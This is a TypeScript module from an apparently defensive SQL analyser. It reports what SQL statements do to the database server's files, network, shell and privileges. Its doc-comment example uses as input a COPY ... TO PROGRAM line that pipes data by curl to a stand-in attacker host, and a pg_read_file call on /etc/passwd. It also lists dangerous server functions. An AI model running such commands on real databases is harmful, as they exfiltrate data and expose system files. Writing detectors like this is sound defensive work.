/**
 * SQL effects: what the sql facet's facts mean for the file system, the network, code execution
 * and privilege, in the shape every facet shares (effects-types.ts). Paths are the database
 * server's: an absolute path is normalized; a relative one (resolved against the server's data
 * directory, which the facet cannot know), a non-literal argument or an unknown function is
 * reported with `known: false`.
 */
import type { Effects, ExecEffect, NetworkEffect, PathEffect, PrivilegeEffect } from './effects-types.js';
import { SQL_CLASSES } from './sql-facts.js';
import type { SqlCallFacts, SqlFacts, SqlStatementFacts } from './sql-facts.js';

/** Which argument of a file function is the path, and what the function does with it. */
const FILE_ARGS: Readonly<Record<string, ReadonlyArray<readonly [number, 'read' | 'write' | 'delete']>>> = {
  pg_read_file: [[0, 'read']],
  pg_read_file_old: [[0, 'read']],
  pg_read_binary_file: [[0, 'read']],
  pg_stat_file: [[0, 'read']],
  pg_ls_dir: [[0, 'read']],
  lo_import: [[0, 'read']],
  lo_export: [[1, 'write']],
  pg_file_write: [[0, 'write']],
  pg_file_rename: [
    [0, 'delete'],
    [1, 'write'],
  ],
  pg_file_unlink: [[0, 'delete']],
  pg_file_sync: [[0, 'read']],
  load_file: [[0, 'read']],
  readfile: [[0, 'read']],
  writefile: [[0, 'write']],
  fsdir: [[0, 'read']],
  zipfile: [[0, 'read']],
};

/** Functions whose first argument is SQL (or a cursor or schema) they run. */
const CODE_ARG: ReadonlySet<string> = new Set(['query_to_xml', 'query_to_xml_and_xmlschema', 'query_to_xmlschema', 'cursor_to_xml', 'cursor_to_xmlschema', 'ts_stat', 'eval', 'spider_direct_sql', 'spider_bg_direct_sql']);

/** Settings whose change is a change of identity. */
const ROLE_SETTINGS: ReadonlySet<string> = new Set(['role', 'session_authorization', 'session authorization']);

const DIALECT_PREFIX: Readonly<Record<string, string>> = { postgresql: 'pg', mysql: 'mysql', mariadb: 'mariadb', sqlite: 'sqlite' };

/**
 * The effects of the SQL the facts describe. Facts of input that did not parse give an
 * incomplete result with an unknown effect of every kind (it could do anything); facts no binding
 * applied to (`EMPTY_SQL_FACTS`) give no effects.
 *
 * @example
 * ```ts
 * const facts = sqlFacet("COPY t TO PROGRAM 'curl -d @- evil.example'", { dialect: 'postgresql', parsers });
 * sqlEffects(facts).exec; // [{ program: 'sh', code: 'curl -d @- evil.example', via: 'COPY ... TO PROGRAM', reason: '...', known: true }]
 * sqlEffects(sqlFacet("SELECT pg_catalog.pg_read_file('/etc/passwd')", { dialect: 'postgresql', parsers })).reads;
 * // [{ path: '/etc/passwd', via: 'pg_catalog.pg_read_file', known: true }]
 * ```
 */
export function sqlEffects(facts: SqlFacts): Effects {
  const out = new Collect();
  if (!facts.parsed) {
    if (facts.error === '') return out.done();
    // invariant: SQL that could not be read may do anything; every kind of effect is unknown.
    const via = 'unparsed SQL';
    out.exec({ program: 'sql', code: '', via, reason: `the SQL could not be analysed (${facts.error})`, known: false });
    out.network({ host: '', port: 0, scheme: '', via, known: false });
    for (const list of ['reads', 'writes', 'deletes'] as const) out.path(list, { path: '', via, known: false });
    out.privilege({ kind: 'unknown', via, reason: 'the SQL could not be analysed' });
    out.incomplete(`sql: ${facts.error}`);
    return out.done();
  }
  const prefix = DIALECT_PREFIX[facts.dialect] ?? facts.dialect;
  for (const s of facts.statements) statementEffects(s, prefix, out);
  for (const c of facts.calls) callEffects(c, prefix, out);
  if (!facts.classes.every((c) => (SQL_CLASSES as readonly string[]).includes(c))) out.incomplete('sql: an unexpected class');
  return out.done();
}

function statementEffects(s: SqlStatementFacts, prefix: string, out: Collect): void {
  switch (s.verb) {
    case 'COPY': {
      const dir = s.object === 'from' ? 'FROM' : 'TO';
      if (s.program) {
        out.exec({ program: 'sh', code: s.file, via: `COPY ... ${dir} PROGRAM`, reason: 'the database server runs this shell command', known: s.file !== '' });
      } else if (s.file !== '') {
        out.path(s.object === 'from' ? 'reads' : 'writes', serverPath(s.file, `COPY ... ${dir}`));
      }
      return;
    }
    case 'WRITE_FILE':
      out.path('writes', serverPath(s.file, `SELECT ... INTO ${s.object.toUpperCase()}`));
      return;
    case 'LOAD_FILE':
      out.path('reads', serverPath(s.file, 'LOAD DATA INFILE'));
      return;
    case 'ATTACH':
      if (s.file !== '' && s.file !== ':memory:') {
        out.path('reads', serverPath(s.file, 'ATTACH'));
        out.path('writes', serverPath(s.file, 'ATTACH'));
      }
      return;
    case 'VACUUM':
      if (s.file !== '') out.path('writes', serverPath(s.file, 'VACUUM INTO'));
      return;
    case 'LOAD':
      out.exec({ program: 'postgres', code: s.file, via: 'LOAD', reason: 'the server loads this shared library', known: s.file !== '' });
      if (s.file !== '') out.path('reads', serverPath(s.file, 'LOAD'));
      return;
    case 'DO':
      out.exec({ program: `${prefix}:do`, code: '', via: 'DO', reason: 'runs a procedural block the facet does not analyse', known: false });
      return;
    case 'EXECUTE':
      out.exec({ program: `${prefix}:execute`, code: '', via: 'EXECUTE', reason: 'runs a prepared statement defined elsewhere', known: false });
      return;
    case 'CALL':
      out.exec({ program: `${prefix}:${s.functions[0] ?? 'call'}`, code: '', via: 'CALL', reason: 'runs a stored procedure', known: false });
      return;
    case 'PREPARE':
      if (s.object === 'variable') out.exec({ program: `${prefix}:prepare`, code: '', via: 'PREPARE ... FROM @variable', reason: 'prepares SQL held in a variable', known: false });
      return;
    case 'INSTALL':
      out.exec({ program: `${prefix}:install`, code: '', via: `INSTALL ${s.object.toUpperCase()}`, reason: 'loads a server plugin or component', known: false });
      return;
    case 'CREATE':
      if (s.object === 'extension' || s.object === 'language') {
        out.exec({ program: 'postgres', code: '', via: `CREATE ${s.object.toUpperCase()}`, reason: `runs the ${s.object}'s install script and may load a library`, known: false });
      }
      break;
    case 'SET':
    case 'RESET':
      if (ROLE_SETTINGS.has(s.object)) out.privilege({ kind: 'set-role', via: `${s.verb} ${s.object.toUpperCase()}`, reason: 'changes the identity the session runs as' });
      else if (s.object === 'password') out.privilege({ kind: 'password', via: 'SET PASSWORD', reason: 'changes an account password' });
      return;
    case 'GRANT':
    case 'REVOKE':
      out.privilege({ kind: s.verb.toLowerCase(), via: s.verb, reason: s.verb === 'GRANT' ? 'grants privileges or role membership' : 'revokes privileges or role membership' });
      return;
    case 'ALTER':
      if (s.object === 'system') {
        out.privilege({ kind: 'alter-system', via: 'ALTER SYSTEM', reason: 'changes the server configuration file' });
        return;
      }
      break;
    default:
      return;
  }
  if ((s.verb === 'CREATE' || s.verb === 'ALTER' || s.verb === 'DROP') && (s.object === 'role' || s.object === 'user' || s.object === 'group')) {
    out.privilege({ kind: 'role', via: `${s.verb} ${s.object.toUpperCase()}`, reason: `${s.verb.toLowerCase()}s a database ${s.object} and its privileges` });
  }
}

function callEffects(c: SqlCallFacts, prefix: string, out: Collect): void {
  const base = c.name.split('.').pop() ?? c.name;
  switch (c.class) {
    case 'file': {
      const args = FILE_ARGS[base];
      if (args === undefined) {
        // A file function whose path is implied (a log or WAL directory): where it is, is not known here.
        out.path('reads', { path: '', via: c.name, known: false });
        return;
      }
      for (const [i, access] of args) {
        const arg = c.args[i];
        const p: PathEffect = typeof arg === 'string' ? serverPath(arg, c.name) : { path: '', via: c.name, known: false };
        out.path(access === 'read' ? 'reads' : access === 'write' ? 'writes' : 'deletes', p);
      }
      return;
    }
    case 'network':
      out.network(destination(c));
      return;
    case 'exec': {
      const arg = c.args[0];
      const literal = typeof arg === 'string';
      const code = CODE_ARG.has(base) && literal ? arg : base === 'load_extension' && literal ? arg : '';
      out.exec({ program: `${prefix}:${c.name}`, code, via: c.name, reason: c.reason, known: c.known && code !== '' });
      if (base === 'load_extension') out.path('reads', literal ? serverPath(arg, c.name) : { path: '', via: c.name, known: false });
      return;
    }
    case 'admin':
      if (base === 'set_config') {
        const setting = c.args[0];
        if (typeof setting !== 'string') out.privilege({ kind: 'set-role', via: c.name, reason: 'set_config of a setting not known here may change the session identity' });
        else if (ROLE_SETTINGS.has(setting.toLowerCase())) out.privilege({ kind: 'set-role', via: c.name, reason: 'changes the identity the session runs as' });
      }
      return;
    default:
      return;
  }
}

/**
 * Where a dblink/postgres_fdw call connects: the host and port of a libpq connection string
 * (`host=db.example port=5433 ...`) or URI (`postgresql://db.example:5433/x`) in its arguments;
 * unknown when it names a connection or server defined elsewhere.
 */
function destination(c: SqlCallFacts): NetworkEffect {
  for (const arg of c.args) {
    if (typeof arg !== 'string') continue;
    const d = /^postgres(?:ql)?:\/\//i.test(arg) ? fromUri(arg) : arg.includes('=') ? fromConninfo(arg) : undefined;
    if (d) return { ...d, via: c.name };
  }
  const named = c.args.find((a): a is string => typeof a === 'string');
  return { host: named ?? '', port: 0, scheme: 'postgresql', via: c.name, known: false };
}

function fromUri(uri: string): Omit<NetworkEffect, 'via'> | undefined {
  let u: URL;
  try {
    u = new URL(uri);
  } catch {
    return undefined;
  }
  const host = u.hostname.toLowerCase().replace(/^\[|\]$/g, '');
  const hostParam = u.searchParams.get('host');
  if (host === '' && hostParam === null) return { host: '', port: 0, scheme: 'postgresql', known: false };
  return { host: host || (hostParam ?? '').toLowerCase(), port: u.port === '' ? 5432 : Number(u.port), scheme: 'postgresql', known: !host.includes(',') };
}

/** libpq's key=value syntax: values bare or single-quoted with backslash escapes. */
function fromConninfo(text: string): Omit<NetworkEffect, 'via'> | undefined {
  const values = new Map<string, string>();
  let i = 0;
  while (i < text.length) {
    while (i < text.length && /\s/.test(text[i] as string)) i++;
    if (i >= text.length) break;
    let key = '';
    while (i < text.length && text[i] !== '=' && !/\s/.test(text[i] as string)) key += text[i++];
    while (i < text.length && /\s/.test(text[i] as string)) i++;
    if (text[i] !== '=') return undefined;
    i++;
    while (i < text.length && /\s/.test(text[i] as string)) i++;
    let value = '';
    if (text[i] === "'") {
      i++;
      for (; i < text.length && text[i] !== "'"; i++) value += text[i] === '\\' && i + 1 < text.length ? text[++i] : text[i];
      if (text[i] !== "'") return undefined;
      i++;
    } else {
      for (; i < text.length && !/\s/.test(text[i] as string); i++) value += text[i] === '\\' && i + 1 < text.length ? text[++i] : text[i];
    }
    values.set(key.toLowerCase(), value);
  }
  const host = values.get('host') ?? values.get('hostaddr');
  if (host === undefined) {
    // No host: libpq uses a Unix socket or the PGHOST of the server process; a named service is looked up elsewhere.
    return { host: '', port: 0, scheme: 'postgresql', known: false };
  }
  const port = Number(values.get('port') ?? '5432');
  // Several hosts (host=a,b) or a socket directory (host=/tmp) are not one known destination.
  const known = host !== '' && !host.includes(',') && !host.startsWith('/') && Number.isInteger(port);
  return { host: host.toLowerCase(), port: Number.isInteger(port) ? port : 0, scheme: 'postgresql', known };
}

/** A path on the database server: absolute ones normalized; anything else is not known here. */
function serverPath(p: string, via: string): PathEffect {
  if (!p.startsWith('/')) return { path: p, via, known: false };
  const parts: string[] = [];
  for (const seg of p.split('/')) {
    if (seg === '' || seg === '.') continue;
    if (seg === '..') parts.pop();
    else parts.push(seg);
  }
  return { path: '/' + parts.join('/'), via, known: true };
}

/** Builds Effects with each distinct effect once. */
class Collect {
  readonly #e: Effects = { exec: [], network: [], reads: [], writes: [], deletes: [], privilege: [], complete: true, unknown: [] };
  readonly #seen = new Set<string>();

  exec(e: ExecEffect): void {
    this.#add('exec', e);
  }

  network(e: NetworkEffect): void {
    this.#add('network', e);
  }

  path(list: 'reads' | 'writes' | 'deletes', e: PathEffect): void {
    this.#add(list, e);
  }

  privilege(e: PrivilegeEffect): void {
    this.#add('privilege', e);
  }

  incomplete(reason: string): void {
    this.#e.complete = false;
    if (!this.#e.unknown.includes(reason)) this.#e.unknown.push(reason);
  }

  done(): Effects {
    return this.#e;
  }

  #add<K extends 'exec' | 'network' | 'reads' | 'writes' | 'deletes' | 'privilege'>(list: K, e: Effects[K][number]): void {
    const key = `${list}\u0000${JSON.stringify(e)}`;
    if (this.#seen.has(key)) return;
    this.#seen.add(key);
    (this.#e[list] as Array<Effects[K][number]>).push(e);
  }
}
